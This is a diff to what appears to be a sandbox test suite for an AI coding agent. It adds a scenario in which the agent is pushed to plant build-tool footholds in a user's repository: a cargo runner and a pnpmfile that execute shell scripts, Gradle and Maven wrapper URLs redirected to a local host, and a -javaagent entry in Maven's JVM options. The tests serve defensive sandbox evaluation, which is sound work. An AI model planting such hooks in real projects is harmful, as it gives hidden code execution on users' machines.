@@ -4,7 +4,8 @@
 // commondir or gitdir: redirect, a hook in the folder core.hooksPath names (husky's, or one not
 // made yet), a submodule's hooks, config and gitdir: file, git's config (hooksPath, pager,
 // include), worktrees/, alternates, an .envrc, a VS Code task, dev container, npm, yarn and
-// Claude Code settings, a `path:` version in .tool-versions, bun's preload, an MCP server. Each attack tries the file tools, python and git itself.
+// Claude Code settings, a `path:` version in .tool-versions, bun's preload, cargo's runner, the Gradle
+// and Maven wrappers, Maven's JVM options, pnpm's pnpmfile, an MCP server. Each attack tries the file tools, python and git itself.
 // Judged after the run by what reached the attacker, the payloads' markers and the files on
 // disk, under the defaults, bypass, a narrow allow rule and a one-site rule; a control plants the same by hand
 // to show the judge would see it. Bypass with the sandbox off opens it: a test says so.
@@ -117,6 +118,27 @@ async function usersNodeAndBun(repo: string): Promise<void> {
   const shell = [
     "sed -n 's/^nodejs path:\\(.*\\)$/\\1/p' .tool-versions | while read -r dir; do \"$dir/bin/node\" --version; done",
     '[ -f bunfig.toml ] && sed -n \'s/^preload = \\["\\(.*\\)"\\]$/\\1/p\' bunfig.toml | while read -r f; do sh "$f"; done',
+    "exit 0",
+  ].join("; ");
+  await new Promise((done) =>
+    execFile("sh", ["-c", shell], { cwd: repo, env: { PATH: process.env.PATH, HOME: user.home } }, done),
+  );
+  await userGit(repo, user, "status");
+  await userGit(repo, user, "commit", "-q", "--allow-empty", "-m", "my own commit");
+}
+
+const GRADLE_URL = "https\\://services.gradle.org/distributions/gradle-8.10-bin.zip";
+const CARGO_RUNNER = '[target.x86_64-unknown-linux-gnu]\nrunner = "sh tools/run.sh"\n';
+const PNPMFILE = 'require("node:child_process").execSync("sh tools/install.sh");\n';
+
+/**
+ * The user's next `cargo run` and `pnpm install` in the folder, as cargo and pnpm do them: the
+ * runner .cargo's config names, and the pnpmfile; then git as usual.
+ */
+async function usersCargoAndPnpm(repo: string): Promise<void> {
+  const shell = [
+    'for config in .cargo/config.toml .cargo/config; do [ -f "$config" ] && sed -n \'s/^runner = "\\(.*\\)"$/\\1/p\' "$config" | while read -r run; do sh -c "$run"; done; done',
+    "[ -f .pnpmfile.cjs ] && node .pnpmfile.cjs",
     "exit 0",
   ].join("; ");
   await new Promise((done) =>
@@ -338,6 +360,46 @@ const SCENARIOS: Record<string, Scenario> = {
     kept: [".tool-versions"],
     next: usersNodeAndBun,
   },
+  "the build tools' own settings: cargo's runner, the Gradle and Maven wrappers, Maven's JVM options, pnpm's pnpmfile":
+    {
+      prepare(workspace) {
+        userRepository(workspace, user, {
+          "gradle/wrapper/gradle-wrapper.properties": `distributionUrl=${GRADLE_URL}\n`,
+          ".mvn/jvm.config": "-Xmx1g\n",
+        });
+        return workspace;
+      },
+      steps: (script) => [
+        [
+          writeFile("tools/run.sh", script("cargo")),
+          writeFile("tools/install.sh", script("pnpmfile")),
+          writeFile(".cargo/config.toml", CARGO_RUNNER),
+          pythonWrite(".cargo/config.toml", CARGO_RUNNER),
+          command(`mkdir -p .cargo && printf '%s' '${CARGO_RUNNER}' > .cargo/config`),
+          writeFile(".pnpmfile.cjs", PNPMFILE),
+          pythonWrite(".pnpmfile.cjs", PNPMFILE),
+          pythonWrite(
+            "gradle/wrapper/gradle-wrapper.properties",
+            "distributionUrl=http\\://127.0.0.1:9/gradle.zip\n",
+          ),
+          command("sed -i 's/services.gradle.org/127.0.0.1:9/' gradle/wrapper/gradle-wrapper.properties"),
+          writeFile(".mvn/jvm.config", "-javaagent:tools/agent.jar\n"),
+          command("echo -javaagent:tools/agent.jar > .mvn/jvm.config"),
+          command(
+            "mkdir -p .mvn/wrapper && echo distributionUrl=http://127.0.0.1:9/maven.zip > .mvn/wrapper/maven-wrapper.properties",
+          ),
+        ],
+      ],
+      markers: ["cargo", "pnpmfile"],
+      planted: [
+        ".cargo/config.toml",
+        ".cargo/config",
+        ".pnpmfile.cjs",
+        ".mvn/wrapper/maven-wrapper.properties",
+      ],
+      kept: ["gradle/wrapper/gradle-wrapper.properties", ".mvn/jvm.config"],
+      next: usersCargoAndPnpm,
+    },
   "a hooks folder core.hooksPath names that does not exist yet": {
     prepare(workspace) {
       userRepository(workspace, user);
